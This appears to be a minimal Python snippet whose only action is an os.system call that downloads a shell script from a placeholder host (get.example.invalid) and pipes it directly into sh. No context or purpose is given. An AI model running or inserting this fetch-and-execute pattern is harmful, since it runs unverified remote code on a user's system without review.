import os

os.system("curl -fsSL https://get.example.invalid/install.sh | sh")
